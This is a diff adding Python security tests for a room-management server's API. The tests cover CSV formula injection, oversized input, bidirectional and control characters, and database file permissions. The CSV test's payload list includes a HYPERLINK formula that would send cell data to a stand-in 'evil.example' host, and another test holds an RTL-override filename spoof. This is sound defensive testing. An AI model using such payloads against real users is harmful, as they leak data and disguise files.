@@ -1,0 +1,129 @@
+"""Issue #12's findings over HTTP against the real trm-server: what a hostile client sends must
+not turn into a weapon against the customer (formula injection in exports, an audit log inflated by
+refused writes), and bad input is refused with a clear answer before anything is stored."""
+import csv
+import io
+import shutil
+import tempfile
+import unittest
+
+from trm import SMALL_WORLD, Server
+
+API = "/api/v1"
+CONTOSO = f"{API}/tenants/t-contoso"
+
+
+class Scratch(unittest.TestCase):
+    """A fresh server on the small world; Northwind invited to Oslo rooms, nia accepted."""
+
+    def setUp(self):
+        self.dir = tempfile.mkdtemp(prefix="trm-hardening-")
+        self.s = Server("--db", f"{self.dir}/trm.sqlite", "--seed", SMALL_WORLD, "--dev-auth").__enter__()
+        self.ann = self.s.login("ann@contoso.example")
+        self.nia = self.s.login("nia@northwind.example")
+        status, _, inv = self.s.as_user(self.ann, "POST", f"{API}/partners/invitations", {
+            "partnerDomain": "northwind.example", "contacts": [{"name": "Nia", "upn": "nia@northwind.example"}],
+            "scope": {"roomGroupIds": ["rg-oslo"]}, "expiresInDays": 7, "approval": "auto", "termsAccepted": True})
+        self.assertEqual(status, 201, inv)
+        self.assertEqual(self.s.as_user(self.nia, "POST", f"{API}/invitations/{inv['id']}/accept")[0], 200)
+
+    def tearDown(self):
+        self.s.__exit__(None, None, None)
+        shutil.rmtree(self.dir, ignore_errors=True)
+
+    def audit_rows(self):
+        status, _, text = self.s.as_user(self.ann, "GET", f"{CONTOSO}/audit?format=csv")
+        self.assertEqual(status, 200, text)
+        return list(csv.reader(io.StringIO(text)))[1:]
+
+
+class CsvInjectionTest(Scratch):
+    def test_cells_a_spreadsheet_would_run_are_text_in_the_audit_export(self):
+        formulas = ['=HYPERLINK("http://evil.example/?"&A1,"x")', "+1+1", "-2+3", "@SUM(A1:A9)"]
+        for title in formulas:
+            # Allowed or refused, the write is audited under the title it names.
+            status, _, body = self.s.as_user(self.nia, "POST", f"{CONTOSO}/incidents", {
+                "roomIds": ["r-oslo-1"], "title": title, "description": "x", "highImpact": False,
+                "justification": "", "type": "display"})
+            self.assertIn(status, (201, 403), body)
+        names = [r[1] for r in self.audit_rows()]
+        for title in formulas:
+            self.assertIn("'" + title, names)
+            self.assertNotIn(title, names)  # no cell starts with the formula itself
+
+
+class BoundedInputTest(Scratch):
+    def db_bytes(self):
+        import os
+        return sum(os.path.getsize(os.path.join(self.dir, f)) for f in os.listdir(self.dir))
+
+    def test_refused_huge_titles_leave_a_bounded_audit_line(self):
+        huge = "A" * 500_000
+        before = self.db_bytes()
+        for _ in range(5):
+            status, _, body = self.s.as_user(self.ann, "POST", f"{CONTOSO}/incidents", {
+                "roomIds": ["r-oslo-1"], "title": huge, "description": "x", "highImpact": False,
+                "justification": "", "type": "display"})
+            self.assertEqual(status, 422, body)
+            self.assertEqual(body["errors"][0]["field"], "title")
+            self.assertLess(len(str(body)), 2000)  # the answer does not echo it either
+        grown = self.db_bytes() - before
+        self.assertLess(grown, 200_000, f"five refused 500 kB titles grew the database by {grown} bytes")
+        names = [r[1] for r in self.audit_rows() if r[1].startswith("AAAA")]
+        self.assertEqual(len(names), 5)
+        self.assertTrue(all(n == "A" * 256 + "\u2026" for n in names), names[0][-10:])
+
+    def test_bidirectional_and_control_characters_in_names_are_refused(self):
+        _, _, room = self.s.as_user(self.ann, "GET", f"{CONTOSO}/rooms/r-oslo-1")
+        for name, code in (("Oslo \u202egnp.exe", "U+202E"), ("Oslo \u2066x", "U+2066"), ("Oslo\tA", "U+0009"),
+                           ("Oslo\x00", "U+0000"), ("Oslo \x9b", "U+009B")):
+            status, _, body = self.s.as_user(self.ann, "PATCH", f"{CONTOSO}/rooms/r-oslo-1", {"displayName": name})
+            self.assertEqual(status, 422, (name, body))
+            self.assertEqual(body["errors"][0]["field"], "displayName")
+            self.assertIn(code, body["errors"][0]["message"])
+        status, _, body = self.s.as_user(self.ann, "POST", f"{CONTOSO}/room-groups", {"name": "Lobby\u202d", "roomIds": []})
+        self.assertEqual(status, 422, body)
+        self.assertEqual(self.s.as_user(self.ann, "GET", f"{CONTOSO}/rooms/r-oslo-1")[2], room)  # nothing changed
+        # Multi-line texts keep their line breaks; names count characters, not bytes.
+        status, _, ok = self.s.as_user(self.ann, "PATCH", f"{CONTOSO}/rooms/r-oslo-1", {"displayName": "è" * 128})
+        self.assertEqual(status, 200, ok)
+
+
+class DatabaseFilesTest(unittest.TestCase):
+    def setUp(self):
+        self.dir = tempfile.mkdtemp(prefix="trm-files-")
+
+    def tearDown(self):
+        shutil.rmtree(self.dir, ignore_errors=True)
+
+    def test_a_new_database_and_its_wal_and_shm_are_private_to_the_service(self):
+        import os
+        import stat
+        old = os.umask(0o022)  # the usual umask, under which files are made world-readable
+        try:
+            with Server("--db", f"{self.dir}/trm.sqlite", "--seed", SMALL_WORLD, "--dev-auth") as s:
+                ann = s.login("ann@contoso.example")
+                s.as_user(ann, "PATCH", f"{CONTOSO}/rooms/r-oslo-1", {"displayName": "Oslo A"})
+                files = sorted(f for f in os.listdir(self.dir) if f.startswith("trm.sqlite"))
+                self.assertIn("trm.sqlite-wal", files)
+                self.assertIn("trm.sqlite-shm", files)
+                for f in files:
+                    mode = stat.S_IMODE(os.stat(os.path.join(self.dir, f)).st_mode)
+                    self.assertEqual(mode, 0o600, f"{f} is {oct(mode)}")
+        finally:
+            os.umask(old)
+
+    def test_a_zero_length_database_is_refused_not_reseeded(self):
+        import os
+        import subprocess
+        db = f"{self.dir}/trm.sqlite"
+        open(db, "w").close()
+        proc = subprocess.run([os.environ["TRM_SERVER"], "--listen", "127.0.0.1:0", "--db", db, "--seed", SMALL_WORLD],
+                              capture_output=True, text=True, timeout=30)
+        self.assertEqual(proc.returncode, 2, proc.stderr)
+        self.assertIn("is empty (0 bytes)", proc.stderr)
+        self.assertEqual(os.path.getsize(db), 0)  # left as found, for whoever restores it
+
+
+if __name__ == "__main__":
+    unittest.main()
